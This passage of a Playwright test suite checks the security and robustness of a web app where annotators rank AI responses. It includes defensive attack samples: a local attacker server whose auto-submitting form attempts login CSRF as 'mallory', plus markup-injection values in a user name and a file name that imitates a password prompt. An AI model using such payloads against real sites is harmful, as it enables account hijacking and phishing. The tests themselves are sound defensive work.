            page.wait_for_function("!document.querySelector('.toast-wrap .toast-close')", timeout=2000)
    finally:
        print("\n".join(seen))
        page.context.close()


def test_an_admin_refresh_refused_as_the_session_ends_leaves_the_figures_in_view(tmp_path, browser):
    """The Admin tab's Refresh (and selecting the tab) refused before any handler: Gradio drew "Error" over every
    table and figure; the bar at the foot says what happened and the figures stay as they were."""
    from sqlalchemy import update

    from align.labeling.server import create_app
    from align.labeling.server import running as serve
    from align.labeling.store import sessions

    store = new_store(tmp_path)
    store.add_tasks("shift", _support_tasks(2))
    page = new_page(browser)
    try:
        with serve(create_app(store)) as url:
            sign_in(page, url, "boss", expect_task=False)
            page.get_by_role("tab", name="Admin").click()
            page.wait_for_function("document.querySelector('#align-totals').innerText.includes('rankings')")
            totals = page.inner_text("#align-totals")
            with store.tx() as conn:
                conn.execute(update(sessions).values(expires=0.0))
            with page.expect_response(lambda r: "/gradio_api/queue/join" in r.url) as answer:
                page.click("#align-refresh")
            assert answer.value.status == 401
            page.wait_for_selector("#align-session-ended", state="visible")
            page.wait_for_timeout(500)
            assert error_overlays(page) == 0 and totals in page.inner_text("#align-totals")
            assert page.is_enabled("#align-refresh")  # off while a refresh is on its way, on again after a refusal
            # the page's foot has room for the bar: it no longer covers the last control
            assert page.evaluate("parseFloat(getComputedStyle(document.body).paddingBottom)") > 40
    finally:
        page.context.close()


def test_selecting_the_admin_tab_turns_refresh_off_until_its_figures_are_in(tmp_path, browser, monkeypatch):
    """Selecting the Admin tab reads the figures as Refresh does, without Gradio's overlay: it showed no sign at all
    (the tables sat empty or stale, Refresh pressable, until the store answered). Refresh is off meanwhile."""
    import threading

    from align.labeling import handlers
    from align.labeling.server import create_app
    from align.labeling.server import running as serve

    store = new_store(tmp_path)
    store.add_tasks("shift", _support_tasks(2))
    gate = threading.Event()
    real = handlers.admin_stats
    monkeypatch.setattr(handlers, "admin_stats", lambda *a, **k: (gate.wait(20), real(*a, **k))[1])
    page = new_page(browser)
    try:
        with serve(create_app(store)) as url:
            sign_in(page, url, "boss", expect_task=False)
            page.get_by_role("tab", name="Admin").click()
            page.wait_for_function("document.getElementById('align-refresh').disabled")
            assert "rankings" not in page.inner_text("#align-totals")
            gate.set()
            page.wait_for_function("!document.getElementById('align-refresh').disabled")
            assert "rankings" in page.inner_text("#align-totals")
    finally:
        gate.set()
        page.context.close()


def test_a_page_left_open_after_another_tab_signs_in_as_someone_else_says_so_and_saves_nothing(tmp_path, browser):
    """The cookie is the browser's: once another tab signs in as bob, ann's open page is refused (403) before any
    handler runs. Gradio showed that only as fading toasts and "Error" overlays; the page now says, in a bar that
    stays, that it belongs to another account and to reload, and nothing is saved under either account."""
    from align.labeling.server import create_app
    from align.labeling.server import running as serve

    store = new_store(tmp_path)
    for name in ("ann", "bob"):
        store.add_user(name, PASSWORD)
    store.add_tasks("shift", _support_tasks(4))
    page = new_page(browser)
    try:
        with serve(create_app(store)) as url:
            sign_in(page, url, "ann")
            assert page.is_hidden("#align-other-account")
            other = page.context.new_page()  # same browser, same cookie
            other.set_default_timeout(TIMEOUT_MS)
            other.goto(url)
            other.wait_for_selector("#resp-a", state="visible")
            other.click("#align-signout")
            sign_in(other, url, "bob")
            page.bring_to_front()
            with page.expect_response(lambda r: "/gradio_api/" in r.url and r.status == 403):
                rank_all(page, [1, 2, 3, 4])
                page.click("#align-submit")
            page.wait_for_selector("#align-other-account", state="visible")
            page.wait_for_function("document.getElementById('align-other-account').textContent"
                                   ".includes('you are signed in as bob: reload to rank as bob')")
            page.wait_for_timeout(1000)
            assert page.is_visible("#align-other-account")  # stays: every call of this page is refused
            assert error_overlays(page) == 0  # the bar says it, not "Error" over every response
            # a bar at the foot, in view wherever the page is scrolled (it was a line below the whole app)
            assert page.evaluate("getComputedStyle(document.getElementById('align-other-account')).position") == "fixed"
            assert store.submitted_rankings() == []
            page.reload()  # as bob now: the bar is gone and a ranking saves under bob
            page.wait_for_selector("#resp-a", state="visible")
            assert page.is_hidden("#align-other-account")
            rank_all(page, [1, 2, 3, 4])
            page.click("#align-submit")
            wait_for_message(page, "✅")
            assert [r["annotator"] for r in store.submitted_rankings()] == ["bob"]
    finally:
        page.context.close()


def test_a_slow_skip_or_submit_turns_both_buttons_off_and_the_task_out_of_reach(tmp_path, browser, monkeypatch):
    """Submit and Skip run without Gradio's progress overlay (it drew "Error" over the task on a refused call): a
    skip on its way, the store slow, showed nothing, and Submit or a second Skip acted on the task after it unseen;
    ranks changed during a slow submit were not the ones submitted. Both buttons are off and the task dimmed,
    out of the mouse's reach, until the call ends."""
    import threading

    from align.labeling import handlers
    from align.labeling.server import create_app
    from align.labeling.server import running as serve

    store = new_store(tmp_path)
    store.add_user("slow", PASSWORD)
    store.add_tasks("shift", _support_tasks(3))
    gate = threading.Event()
    for name in ("skip", "submit"):
        real = getattr(handlers, name)
        monkeypatch.setattr(handlers, name, lambda *a, real=real, **k: (gate.wait(20), real(*a, **k))[1])
    reach = ("[getComputedStyle(document.getElementById('resp-a')).pointerEvents,"
             " document.getElementById('align-submit').disabled, document.getElementById('align-skip').disabled]")
    page = new_page(browser)
    try:
        with serve(create_app(store)) as url:
            sign_in(page, url, "slow")
            assert page.evaluate(reach) == ["auto", False, False]
            for act in ("#align-skip", "#align-submit"):
                if act == "#align-submit":
                    rank_all(page, [1, 2, 3, 4])
                gate.clear()
                page.click(act)
                page.wait_for_function(f"(() => {{ const r = {reach}; return r[1] && r[2]; }})()")
                assert page.evaluate(reach) == ["none", True, True]
                gate.set()
                page.wait_for_function(f"(() => {{ const r = {reach}; return !r[1] && !r[2]; }})()")
                assert page.evaluate(reach)[0] == "auto"
            wait_for_message(page, "✅")
            assert len(rankings_of(store, "slow")) == 1
    finally:
        gate.set()
        page.context.close()


def test_a_submit_the_store_cannot_take_says_not_saved_and_goes_through_once_it_is_back(tmp_path, browser):
    """The store unreachable (here SQLite's folder gone; PostgreSQL down is the same error): the server's session
    check, before any handler, answered the submit with a bare 500, and the page never said "Not saved". Now a
    503, and the page says "Not saved: the store is busy or unreachable" until a call is accepted; its ranks
    stay, and Submit saves them once the store is back."""
    from align.labeling import handlers

    folder = tmp_path / "db"
    store = new_store(folder)
    store.add_user("anna", PASSWORD)
    store.add_tasks("shift", _support_tasks(2))
    annotator = handlers.sign_in(store, "anna", PASSWORD)["annotator_id"]
    page = new_page(browser)
    seen = traffic(page)
    try:
        with running(store) as url:
            sign_in(page, url, "anna")
            prompt, bodies = shown_task(page)
            rank_all(page, [2, 1, 4, 3])
            task_id, ranks = canonical(store, prompt, bodies, [2, 1, 4, 3])
            assert wait_for_draft(store, annotator, task_id, ranks) == ranks
            store.engine.dispose()
            folder.rename(tmp_path / "gone")
            with page.expect_response(lambda r: "/gradio_api/queue/join" in r.url
                                      and len(r.request.post_data_json.get("data", [])) == SUBMIT_DATA) as answer:
                page.click("#align-submit")
            assert answer.value.status == 503
            page.wait_for_selector("#align-store-busy", state="visible")
            assert "Not saved: the store is busy or unreachable" in page.inner_text("#align-store-busy")
            assert shown_task(page) == (prompt, bodies) and error_overlays(page) == 0  # the ranks in view
            (tmp_path / "gone").rename(folder)
            page.click("#align-submit")  # enabled again after the refused submit
            wait_for_message(page, "✅")
            assert [r["ranks"] for r in rankings_of(store, "anna")] == [ranks]
            assert page.is_hidden("#align-store-busy")
    finally:
        print("\n".join(seen))
        page.context.close()


def test_anonymous_floods_never_reach_gradio_and_nobody_is_signed_out(tmp_path, browser):
    """Issue 12.3: 150 anonymous calls with fresh session hashes, against a Gradio that keeps only 20 sessions:
    every call is refused before Gradio, and a signed-in annotator goes on working. So does she when another
    signed-in client pushes her page's Gradio session out: her identity and task are not in that state."""
    from align.labeling.server import create_app
    from align.labeling.server import running as serve

    store = new_store(tmp_path)
    store.add_user("worker", PASSWORD)
    store.add_tasks("flood", _support_tasks(4))
    app = create_app(store)
    holder = app.state.blocks.state_holder
    holder.capacity = 20
    page = new_page(browser)
    try:
        with serve(app) as url:
            sign_in(page, url, "worker")
            call = submit_call(page)  # nothing ranked: refused, but now we know what a submit call looks like
            sessions = len(holder.session_data)

            def flood(i: int) -> int:
                fresh = {"session_hash": secrets.token_hex(5)}
                if i % 3 == 0:
                    return _gradio_post(anonymous, url, call, **fresh).status_code
                if i % 3 == 1:
                    return anonymous.request.post(f"{url}/gradio_api/queue/join", data={**call, **fresh}).status
                return anonymous.request.get(f"{url}/gradio_api/heartbeat/{fresh['session_hash']}").status

            anonymous = browser.new_context()
            statuses = [flood(i) for i in range(150)]  # Playwright's request context is not thread safe
            anonymous.close()
            assert set(statuses) == {401}
            assert len(holder.session_data) == sessions  # not one Gradio session more

            prompt, bodies = shown_task(page)
            rank_all(page, [2, 1, 4, 3])
            page.click("#align-submit")
            wait_for_message(page, "✅")
            assert [r["ranks"] for r in rankings_of(store, "worker")] == [canonical(store, prompt, bodies, [2, 1, 4, 3])[1]]

            # Signed-in calls from fresh session hashes do make Gradio sessions: 30 of them push hers out.
            for _ in range(30):
                assert _gradio_post(page.context, url, call, session_hash=secrets.token_hex(5)).status_code == 200
            assert len(holder.session_data) == 20
            prompt, bodies = shown_task(page)
            rank_all(page, [1, 2, 3, 4])
            page.click("#align-submit")
            rows = wait_for_rows(store, "worker", 2)
            assert rows[1]["ranks"] == canonical(store, prompt, bodies, [1, 2, 3, 4])[1]
            page.context.close()  # before the server stops: it would wait for the page's open streams
    finally:
        page.context.close()


def test_a_replayed_submit_is_already_saved_and_never_ranks_the_next_task(served, page):
    """Issue 12.4: the same submit sent again after the next task is shown changes nothing."""
    from align.labeling import handlers

    url, store, _ = served
    sign_in(page, url, "replay")
    handle, first = page.input_value("#align-task-id input"), task_on_page(store, page, "replay")
    rank_all(page, [4, 3, 2, 1])
    call = submit_call(page)
    assert call["data"][0] == handle
    wait_for_another_task(page, handle)
    second = task_on_page(store, page, "replay")
    answer = _gradio_post(page.context, url, call)
    assert "Already saved" in json.dumps(answer.json())
    annotator = handlers.sign_in(store, "replay", PASSWORD)["annotator_id"]
    assert [r["task_id"] for r in rankings_of(store, "replay")] == [first]
    assert store.draft(annotator, second) is None and store.assignment_status(annotator, second) == "assigned"
    page.click("#align-submit")  # the next task, still unranked on the page, is refused as such
    wait_for_message(page, "give every response a rank")
    # in the error colour, not in body grey beside "Saved" (Gradio's `.prose *` rule won over .align-error)
    colours = page.evaluate("[getComputedStyle(document.querySelector('#align-message .align-error')).color,"
                            " getComputedStyle(document.querySelector('#align-progress')).color]")
    assert colours[0] != colours[1], colours


def test_admin_tab_is_refused_to_annotators_and_exports_for_admins(served, page, browser):
    """Issue 12.5: the Export button writes the recipe's artifact (align.json, config.yaml) to the run's
    preferences folder, refuses a folder that is not an export, and never deletes a file it did not write."""
    from align.labeling import handlers

    url, store, run_dir = served
    out = run_dir / "preferences"
    seed = handlers.sign_in(store, "seed", PASSWORD)  # rankings to export, whichever tests ran before
    for _ in range(2):
        handlers.submit(store, seed, handlers.next_task(store, seed)["task_id"], [1, 2, 3, 4], seconds=30.0)
    # Two who reverse every pair outvote the gold task (test_reliability's collusion): the tab warns of them, the
    # name that is markup as text. Their batch is all ranked at the app's overlap (1): no test after gets its tasks.
    store.add_tasks("collusion", [{"prompt": f"Sync? {i}", "responses": ["Open Settings > Sync.", "no"]}
                                  for i in range(11)])
    gold_id = store.batch_tasks("collusion")[0]["task_id"]
    store.add_gold(gold_id, [1, 2])
    colluder = "<b id=colluder>rev2</b>"
    for name, ranks, shared in (("honest", [1, 2], 2), ("rev1", [2, 1], 10), (colluder, [2, 1], 10)):
        store.add_user(name, PASSWORD)
        person = handlers.sign_in(store, name, PASSWORD)
        for n in range(1 + shared):  # the gold task first, then the fewest-ranked: honest's 2 are theirs too
            task = handlers.next_task(store, person, overlap=3, gold_rate=float(n == 0), batch="collusion")
            handlers.submit(store, person, task["task_id"], [ranks[i] for i in task["order"]])
    sign_in(page, url, "plain")
    assert page.get_by_role("tab", name="Admin").count() == 0
    assert page.locator("#align-refresh, #align-export").count() == 0  # not even in the page
    # Called directly, as any signed-in client can: refused, nothing written.
    with _client(page.context, url) as client:
        refused = queued(client, "do_export", [], "x")
        assert "admin view is for admins" in refused.text and not out.exists()
        # nor past the queue: a direct call of a handler is no route
        assert client.post("/gradio_api/run/do_export", json={"data": [], "session_hash": "x"}).status_code == 404
    assert not out.exists()

    admin = new_page(browser)
    try:
        out.mkdir()
        (out / "thesis.tex").write_text("not an export")
        # The refusal quotes the folder's file names: one that is markup must show as text, never as a form.
        trap = "<input id=trap type=password placeholder='sign in again'>"  # no slash: a file name
        (out / trap).write_text("")
        sign_in(admin, url, "boss", expect_task=False)
        # an admin's page load holds no task (watching the Admin tab kept a slot from the annotators)
        admin.wait_for_function("(document.querySelector('#align-progress') || {innerText: ''}).innerText.includes('No task is held')")
        from align.labeling import handlers

        assert store.progress(handlers.sign_in(store, "boss", PASSWORD)["annotator_id"])["assigned"] == 0
        admin.reload()  # a reload neither
        admin.wait_for_function("(document.querySelector('#align-progress') || {innerText: ''}).innerText.includes('No task is held')")
        admin.get_by_role("tab", name="Admin").click()
        admin.wait_for_function("document.querySelector('#align-totals').innerText.includes('rankings')")
        # the table renders its rows after the update lands
        admin.wait_for_function("document.querySelector('#align-per-annotator').innerText.includes('seed')")
        admin.wait_for_function("document.querySelector('#align-reliability-warnings').innerText.includes('gold')")
        warned = admin.inner_text("#align-reliability-warnings")
        assert "rev1: estimated accuracy 0.82" in warned and f"{colluder}: estimated accuracy 0.82" in warned
        assert "honest:" not in warned and admin.locator("#colluder").count() == 0
        above = admin.locator("#align-reliability-warnings").bounding_box()
        assert above["y"] + above["height"] <= admin.locator("#align-per-annotator").bounding_box()["y"]
        assert admin.locator("#align-export-dir input, #align-export-dir textarea").count() == 0  # no path to type
        assert f"Export folder: {out}" in admin.inner_text("#align-export-dir")  # filled in for an admin only
        admin.click("#align-export")
        admin.wait_for_function("document.querySelector('#align-export-summary').innerText.includes('not a preferences')")
        assert sorted(p.name for p in out.iterdir()) == sorted([trap, "thesis.tex"])
        assert trap in admin.inner_text("#align-export-summary") and admin.locator("#trap, input[type=password]").count() == 0

        (out / "thesis.tex").unlink()
        (out / trap).unlink()
        admin.click("#align-export")
        # a whole `align export` process: 16 s here with four busy loops on the two cores
        admin.wait_for_function("document.querySelector('#align-export-summary').innerText.includes('Exported')",
                                timeout=60_000)
        summary = json.loads((out / "summary.json").read_text())
        manifest = json.loads((out / "align.json").read_text())
        assert summary["pairs"] > 0 and (out / "dataset_dict.json").is_file() and (out / "config.yaml").is_file()
        assert manifest["stage"] == "export" and manifest["summary"]["pairs"] == summary["pairs"]
        assert f"{summary['pairs']} pairs" in admin.inner_text("#align-export-summary")

        (out / "notes.md").write_text("the admin's own notes")  # a file in the export folder the export did not write
        (out / "config.yaml").write_text((out / "config.yaml").read_text().replace("min_agreement: null",
                                                                                    "min_agreement: 1.0"))
        admin.click("#align-export")
        deadline = time.monotonic() + 60

        def manifest_now() -> dict:  # the folders swap by two renames: between them there is none to read
            try:
                return json.loads((out / "align.json").read_text())
            except (FileNotFoundError, ValueError):
                return {"config": {"min_agreement": None}}

        while (again := manifest_now())["config"]["min_agreement"] is None:
            assert time.monotonic() < deadline, "the second export did not replace the first"
            time.sleep(0.2)
        assert again["config"]["min_agreement"] == 1.0  # the button kept the settings of the export it replaced
        assert (out / "notes.md").read_text() == "the admin's own notes"
    finally:
        admin.context.close()


def test_a_form_on_another_port_of_this_host_cannot_sign_the_browser_into_another_account(served, page):
    """Login CSRF: a page on another port of the same host (a notebook, a dev server) is "same-site", and its
    auto-submitted form used to sign the annotator's browser in as the attacker (her rankings then theirs)."""
    url, _, _ = served
    sign_in(page, url, "framed")
    form = (f'<form id="f" method="post" action="{url}/login"><input name="name" value="mallory">'
            f'<input name="password" value="{PASSWORD}"></form><script>document.getElementById("f").submit()</script>')

    class Attacker(http.server.BaseHTTPRequestHandler):
        def do_GET(self):
            self.send_response(200)
            self.send_header("Content-Type", "text/html")
            self.end_headers()
            self.wfile.write(form.encode())

        def log_message(self, *args):
            pass

    attacker = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Attacker)
    threading.Thread(target=attacker.serve_forever, daemon=True).start()
    try:
        with page.expect_response(lambda r: r.url == f"{url}/login" and r.request.method == "POST") as answer:
            page.goto(f"http://127.0.0.1:{attacker.server_address[1]}/")
        assert answer.value.request.header_value("sec-fetch-site") == "same-site"
        assert answer.value.status == 403 and "own pages" in page.inner_text("#align-signin-error")
        page.goto(url)
        # exactly that, once the loading overlay's "processing | 0.6s" in the same block is gone
        page.wait_for_function("(document.querySelector('#align-who') || {}).innerText === 'Signed in as framed'")
    finally:
        attacker.shutdown()


def test_sign_in_is_locked_out_after_five_failures(served, page):
    """Issue 12.6: password guessing stops after five wrong passwords; the right one waits out the lock too."""
    url, store, _ = served
    for _ in range(5):
        sign_in(page, url, "locked", "guess", expect_task=False)
        assert "unknown user or wrong password" in page.inner_text("#align-signin-error")
    started = time.monotonic()
    page.fill("#align-name", "locked")  # on the form the refusal drew: no page load before it
    page.fill("#align-password", PASSWORD)
    page.click("#align-signin")
    page.wait_for_selector("#align-signin-error")
    # The 4 s lock began with the fifth failure (2 s was too short: the sixth sign-in came 1.2 s after the fifth
    # with two busy loops here); the seconds left are fewer when this sign-in took longer.
    assert re.search(r"too many failed sign-ins: try again in [1-4] s", page.inner_text("#align-signin-error"))
    assert page.locator("#resp-a").count() == 0
    page.wait_for_timeout(max(0.0, 4.2 - (time.monotonic() - started)) * 1000)
    sign_in(page, url, "locked")
    assert page.locator("#align-who").inner_text().startswith("Signed in as")


def test_pairwise_task_maps_the_verdict_to_ranks(tmp_path, browser):
    store = new_store(tmp_path)
    store.add_user("judge", PASSWORD)
    store.add_tasks("eval-ab", [{"prompt": REFUND_PROMPT, "responses": REFUND_REPLIES[:2]}], kind="pairwise")
    from align.labeling import handlers

    annotator = handlers.sign_in(store, "judge", PASSWORD)["annotator_id"]
    page = new_page(browser)
    try:
        with running(store) as url:
            sign_in(page, url, "judge", expect_task=False)
            page.wait_for_selector("#align-pairwise", state="visible")
            assert page.locator("#rank-a").is_hidden()
            prompt = page.inner_text("#align-prompt .align-text")
            a, b = [page.inner_text(f"#resp-{x} .align-text") for x in "ab"]
            page.locator("#align-progress").click()
            page.keyboard.press("3")  # B better
            assert page.locator("#align-pairwise input:checked").get_attribute("value") == "B"
            page.keyboard.press("u")  # A, the response selected
            # the drafts land before the reload (Gradio drops the events a reloaded page had queued)
            task_id = task_on_page(store, page, "judge")
            b_better = canonical(store, prompt, [a, b], [2, 1])[1]
            assert wait_for_draft(store, annotator, task_id, b_better) == b_better
            a_flag = f"unsafe:{canonical_index(store, prompt, a)}"
            assert a_flag in wait_for_draft_flags(store, annotator, task_id, {a_flag})
            page.reload()  # the verdict and the flag are a draft: a reload (or a crash of the tab) loses neither
            page.wait_for_function("(document.querySelector('#align-pairwise input:checked') || {}).value === 'B'")
            assert page.locator("#unsafe-a input").is_checked() and not page.locator("#unsafe-b input").is_checked()
            page.locator("#align-progress").click()
            page.keyboard.press("4")  # both bad, reloaded, then B better after all: no all-bad flag stays behind
            assert wait_for_draft(store, annotator, task_id, [1, 1]) == [1, 1]
            page.reload()
            page.wait_for_function("(document.querySelector('#align-pairwise input:checked') || {}).value === 'both_bad'")
            page.locator("#align-progress").click()
            page.keyboard.press("3")
            page.keyboard.press("u")  # not unsafe after all
            page.keyboard.press("Control+Enter")
            wait_for_message(page, "✅")
            [row] = wait_for_rows(store, "judge", 1)
            _, expected = canonical(store, prompt, [a, b], [2, 1])
            assert row["ranks"] == expected and row["flags"] == []
            assert "All done" in page.inner_text("#align-progress")
            # the last one: not "Next task." over the all-done screen, and nothing left to fill in
            said = page.inner_text("#align-message")
            assert "That was your last task." in said and "Next task" not in said
            for empty in ("#align-prompt", "#align-all-bad", "#align-rationale", "#align-pairwise"):
                assert page.is_hidden(empty), empty
            # hidden, still in the page: PAGE_JS's observer of the prompt (the keys' timing) stays on it
            assert page.locator("#align-prompt").count() == 1 and page.locator("#align-rationale").count() == 1
            page.context.close()  # before the server stops: it would wait for the page's open streams
    finally:
        page.context.close()


def test_a_letter_on_an_ab_task_takes_the_focus_to_that_response_s_unsafe_box(tmp_path, browser):
    """An A/B task has no rank radios: b highlighted B while the focus stayed on A's unsafe box, and Space ticked A's."""
    store = new_store(tmp_path)
    store.add_user("judge", PASSWORD)
    store.add_tasks("eval-ab", [{"prompt": REFUND_PROMPT, "responses": REFUND_REPLIES[:2]}], kind="pairwise")
    page = new_page(browser)
    try:
        with running(store) as url:
            sign_in(page, url, "judge", expect_task=False)
            page.wait_for_selector("#align-pairwise", state="visible")
            page.locator("#unsafe-a input").focus()
            page.keyboard.press("b")
            assert page.evaluate("document.activeElement.closest('#unsafe-b') !== null")
            assert "align-selected" in page.get_attribute("#resp-b", "class")
            page.keyboard.press("Space")
            assert page.is_checked("#unsafe-b input") and not page.is_checked("#unsafe-a input")
            page.keyboard.press("a")
            assert page.evaluate("document.activeElement.closest('#unsafe-a') !== null")
            page.context.close()  # before the server stops: it would wait for the page's open streams
    finally:
        page.context.close()


class _Clock:
    """time.time for the store while seeding the screenshot: a labelling session spread over hours."""

    def __init__(self, start: float):
        self.now = start

    def time(self) -> float:
        self.now += 37.0
        return self.now


@pytest.mark.skipif(not __import__("os").environ.get("ALIGN_SCREENSHOTS"), reason="set ALIGN_SCREENSHOTS=1")
def test_screenshots(tmp_path, browser, monkeypatch):
    """docs/img/annotator.png and admin.png from a store with realistic tasks and three annotators."""
    import align.labeling.store
    from align.labeling import handlers

    store = new_store(tmp_path, admin="lena")
    store.add_user("sam", PASSWORD)
    store.add_tasks("round-1", [{"prompt": REFUND_PROMPT, "responses": REFUND_REPLIES}], source={"policy": "sft"})
    store.add_tasks("round-1", _support_tasks(9), source={"policy": "sft"})
    store.add_tasks("round-2", _support_tasks(30)[9:], source={"policy": "dpo-1"})
    refund, *rest = [t["task_id"] for t in store.batch_tasks("round-1")]
    store.add_gold(rest[4], [1, 2, 3, 4])
    rng = random.Random(0)
    monkeypatch.setattr(align.labeling.store, "time", _Clock(time.time() - 3 * 3600))
    # Three annotators over round-1 (overlap 3, so agreement is measured), then some of round-2;
    # each swaps two neighbouring ranks now and then, as people disagree about close calls.
    for name, n, noise in [("maria", 16, 0.15), ("jonas", 13, 0.35), ("priya", 9, 0.25)]:
        store.add_user(name, PASSWORD)
        session = handlers.sign_in(store, name, PASSWORD)
        for i in range(n):
            task = handlers.next_task(store, session, overlap=3, gold_rate=1.0 if i == 3 else 0.0)
            if task is None:
                break
            if task["task_id"] == refund:
                handlers.skip(store, session, task["task_id"])  # left open for the annotator screenshot
                continue
            ranks = [1, 2, 3, 4]
            if rng.random() < noise:
                j = rng.randrange(3)
                ranks[j], ranks[j + 1] = ranks[j + 1], ranks[j]
            handlers.submit(store, session, task["task_id"], [ranks[j] for j in task["order"]],
                            seconds=rng.uniform(20, 95))
    monkeypatch.undo()

    out = REPO / "docs/img"
    out.mkdir(parents=True, exist_ok=True)
    monkeypatch.chdir(tmp_path)  # the export folder the picture shows is the default one, written under tmp
    with running(store, overlap=3, export=exporter(store, Path("runs/quickstart")),
                 export_dir="runs/quickstart/preferences") as url:
        page = browser.new_context(viewport={"width": 1280, "height": 900}).new_page()
        sign_in(page, url, "sam")
        assert "money back" in page.inner_text("#align-prompt")
        # the order differs per annotator: rank by text so the picture shows a sensible ranking
        _, bodies = shown_task(page)
        wanted = {0: "1", 2: "2", 3: "3"}  # good, curt, padded; the invented discount is still open
        for letter, body in zip("abcd", bodies, strict=True):
            index = REFUND_REPLIES.index(body)
            if index in wanted:
                page.click(f"#rank-{letter} label:has-text('{wanted[index]}')")
        page.click(f"#resp-{'abcd'[bodies.index(REFUND_REPLIES[1])]} .align-body")
        page.wait_for_timeout(600)
        page.screenshot(path=str(out / "annotator.png"), full_page=True)

        admin = browser.new_context(viewport={"width": 1280, "height": 900}).new_page()
        sign_in(admin, url, "lena", expect_task=False)  # an admin's page holds no task until asked
        admin.get_by_role("tab", name="Admin").click()
        admin.wait_for_function("document.querySelector('#align-per-annotator').innerText.includes('maria')")
        admin.click("#align-export")
        admin.wait_for_function("document.querySelector('#align-export-summary').innerText.includes('Exported')")
        admin.wait_for_timeout(600)  # the "pending" fade of the updated blocks
        admin.screenshot(path=str(out / "admin.png"))
